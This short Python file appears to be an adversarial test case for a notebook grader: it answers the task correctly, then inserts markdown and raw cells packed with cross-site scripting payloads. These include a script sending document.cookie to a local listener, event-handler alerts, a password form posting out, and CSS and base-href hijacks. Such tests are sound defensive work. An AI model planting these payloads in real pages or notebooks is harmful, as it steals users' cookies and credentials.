"""Markdown answers with scripts, event handlers and pictures that phone home.

deserves: 8
"""

TEXT = """
<script>fetch("http://127.0.0.1:48484/?" + document.cookie)</script>
<img src="http://127.0.0.1:48484/seen.png" onerror="alert('script')"> [click](javascript:alert(1))
![x](http://127.0.0.1:48484/x.png) <svg onload=alert(1)> <iframe srcdoc="<script>alert(1)</script>"></iframe>
<form action="http://127.0.0.1:48484/"><input name=password autofocus onfocus=alert(1)></form>
<style>@import url("http://127.0.0.1:48484/style.css"); body { display: none }</style><base href="http://127.0.0.1:48484/">
"""


def attack(work):
    work.answer_rightly("forward", "backward", "gradient_check")
    work.add(TEXT, cell_type="markdown")
    work.add(TEXT, before="test_forward", cell_type="raw")
